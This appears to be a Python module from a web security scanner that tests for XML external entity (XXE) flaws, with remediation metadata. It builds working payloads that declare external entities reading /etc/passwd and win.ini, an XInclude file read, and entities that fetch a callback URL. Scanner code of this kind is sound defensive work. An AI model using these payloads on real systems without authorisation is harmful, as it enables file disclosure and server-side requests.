"""XML whose document type names a file or an address: a parser that follows it tells, or calls."""

import re
from collections.abc import Iterator

from threatweaver_appsec.engine.agent import About, Agent, Attempt, Nonce, PointAgent, Safety, Severity
from threatweaver_appsec.engine.agents.attacks import calls, in_request, text_of
from threatweaver_appsec.engine.agents.traversal import file_shown
from threatweaver_appsec.engine.messages import Exchange
from threatweaver_appsec.engine.points import Point, Where

LOOKS_LIKE_XML = re.compile(r"^\s*<(\?xml|!DOCTYPE|[a-z][\w:.-]*[\s/>])", re.IGNORECASE)
NAMED = re.compile(r"xml|soap|saml|wsdl|svg", re.IGNORECASE)
DECLARATION = re.compile(r"^\s*(<\?xml[^>]*\?>)?\s*(<!DOCTYPE[^>\[]*(\[[^\]]*\])?[^>]*>)?", re.IGNORECASE)
CONTENT = re.compile(r">[^<>]*</")
FILES = ("file:///etc/passwd", "file:///c:/windows/win.ini")
INCLUDE = '<{r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></{r}>'


def documents(value: str, name: str, declared: str) -> Iterator[str]:
    """Yield XML that declares and uses an entity: within what was there, and as a document of its own."""
    head = f'<?xml version="1.0"?><!DOCTYPE {name} [{declared}]>'
    if LOOKS_LIKE_XML.match(value):
        yield head + CONTENT.sub(f">&{name};</", DECLARATION.sub("", value, count=1), count=3)
    yield f"{head}<{name}>&{name};</{name}>"


def _reading(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    name, value = nonce.word(6), text_of(point)
    for file in FILES:
        declared = f'<!ENTITY {name} SYSTEM "{file}">'
        control = f'<!ENTITY {name} SYSTEM "{file}{nonce.word()}">'
        pairs = zip(documents(value, name, declared), documents(value, name, control), strict=True)
        for attack, harmless in pairs:
            yield Attempt((attack,), file_shown, (harmless,))
    included = INCLUDE.format(r=name)
    yield Attempt((included,), file_shown, (included.replace("xi:include", "xi:exclude"),))


def _calling(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    name = nonce.word(6)
    says = "The XML parser fetched a URL that the document's type names."
    for declared in ('<!ENTITY {n} SYSTEM "{u}">', '<!ENTITY % {n} SYSTEM "{u}"> %{n};'):
        url = nonce.callback()
        if url is None:
            return
        document = list(documents(text_of(point), name, declared.format(n=name, u=url)))
        for one in document:
            yield calls(one, url, f"<{name}/>", says, patience=1.5)


def _takes_xml(point: Point, baseline: Exchange) -> bool:
    if point.where is Where.XML:
        return True
    return in_request(point, baseline) and bool(
        LOOKS_LIKE_XML.match(text_of(point)) or NAMED.search(point.name)
    )


def _about(ident: str, description: str, safety: Safety) -> About:
    return About(
        id=ident,
        title="XML external entities",
        cwe=611,
        owasp="A05:2021",
        severity=Severity.HIGH,
        safety=safety,
        description=description,
        remedy="Switch off document types and external entities in the XML parser.",
    )


AGENTS: tuple[Agent, ...] = (
    PointAgent(
        _about(
            "xxe", "The XML parser reads files that the document names, and the answer has them.", Safety.SAFE
        ),
        wants=_takes_xml,
        attempts=_reading,
    ),
    PointAgent(
        _about("xxe-callback", "The XML parser fetches addresses that the document names.", Safety.SAFE),
        wants=_takes_xml,
        attempts=_calling,
    ),
)
